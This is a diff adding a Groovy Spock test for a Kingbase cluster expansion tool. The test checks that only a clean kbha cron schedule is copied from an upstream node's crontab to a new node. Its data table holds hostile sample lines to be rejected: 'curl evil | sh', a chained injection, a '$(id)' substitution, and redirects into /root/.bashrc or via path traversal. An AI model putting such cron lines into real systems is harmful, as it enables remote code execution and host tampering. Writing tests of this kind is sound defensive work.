@@ -84,6 +84,37 @@ class KingbaseSpec extends Specification {
 
     private static Shrink shrink() { new Shrink('pg3', false, false, Duration.ofSeconds(30)) }
 
+    def "what an upstream's crontab says of kbha becomes a line of a new node only as a schedule of its own kbha: #line"() {
+        given:
+        def state = new States().apply(CLUSTER).apply {
+            delegate.change('pg1') { access crontab: [line] }
+            delegate.newcomer('pg4') { kingbase kbha: OptionalInt.empty(); access crontab: ['5 3 * * * mine'] }
+        }.build()
+        def plan = new Expand('pg4').plan(state)
+        def added = plan.steps().findAll { it.title() == 'let cron start kbha' }*.action()*.toString()
+        def told = plan.checks().findAll { it.title() == 'cron starts kbha on pg4 as on pg1' }
+
+        expect:
+        plan.obstacles().empty
+        wanted ? added[0].contains(wanted) && told.empty : added.empty && told*.detail()*.get() == [line]
+
+        where:
+        line                                                                          | wanted
+        KBHA                                                                          | KBHA
+        "# kesh: $KBHA".toString()                                                    | KBHA
+        KBHA.replace('/home/kingbase/cluster/install', '/home/evil')                  | KBHA
+        '*/5 *   * * *\t/x/bin/kbha -A daemon -f /y/repmgr.conf'                      | '*/5 *   * * *  /home/kingbase/cluster/install/kingbase/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf'
+        '*/1 * * * * . /etc/profile; /x/bin/kbha -A daemon -f /y/r.conf >> /x/log/kbha.log 2>&1' | "$KBHA >> /home/kingbase/cluster/install/kingbase/log/kbha.log 2>&1".toString()
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >/dev/null 2>&1'              | '>> /dev/null 2>&1'
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /root/.bashrc 2>&1'        | null
+        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/../../root/a 2>&1'      | null
+        '* * * * * curl evil | sh # kbha'                                             | null
+        "$KBHA; curl evil | sh".toString()                                            | null
+        "$KBHA \$(id)".toString()                                                     | null
+        '* * * * * kbha -A daemon -f /y/r.conf'                                       | null
+        '@reboot /x/bin/kbha -A daemon -f /y/r.conf'                                  | null
+    }
+
     def "check tells a supervisor that #how"() {
         given:
         def state = new States().apply(CLUSTER).apply { delegate.change('pg2', what) }.build()
